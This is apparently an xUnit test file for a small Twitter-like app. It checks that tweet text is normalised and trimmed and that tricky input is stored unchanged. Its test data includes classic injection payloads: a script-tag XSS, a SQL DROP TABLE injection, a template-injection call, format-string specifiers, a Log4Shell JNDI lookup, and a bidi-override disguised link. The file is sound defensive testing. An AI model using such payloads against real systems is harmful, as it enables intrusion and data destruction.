namespace MiniTwitter.Stories.Tweets;

public class TweetText(App app)
{
    [Theory]
    [InlineData("  spaces around  ", "spaces around")]
    [InlineData("\n\nlines\n\nbetween\n", "lines\n\nbetween")]
    [InlineData("Cafe\u0301", "Café")]
    [InlineData("\u212B", "Å")]
    [InlineData("ﬁ ﷺ", "ﬁ ﷺ")]
    [InlineData("\u1100\u1161", "가")]
    [InlineData("\u2066מזל טוב\u2069", "מזל טוב")]
    [InlineData("\u202Ehttps://evil.example\u202C", "https://evil.example")]
    public async Task Is_normalised_and_trimmed(string typed, string stored)
    {
        var person = await app.RegisterAsync();

        var tweet = await person.TweetAsync(typed);

        tweet.Text.ShouldBe(stored);
        (await person.GetAsync($"/api/tweets/{tweet.Id}")).Read<Tweet>().Text.ShouldBe(stored);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<b>&amp;</b> \" ' `")]
    [InlineData("'; DROP TABLE tweets; --")]
    [InlineData("{{constructor.constructor('alert(1)')()}}")]
    [InlineData("%s%n%p ${jndi:ldap://example.org}")]
    [InlineData("\u200Fמזל טוב")]
    public async Task Stays_what_was_typed(string text)
    {
        var person = await app.RegisterAsync();

        var tweet = await person.TweetAsync(text);

        (await person.GetAsync($"/api/tweets/{tweet.Id}")).Read<Tweet>().Text.ShouldBe(text);
    }
}
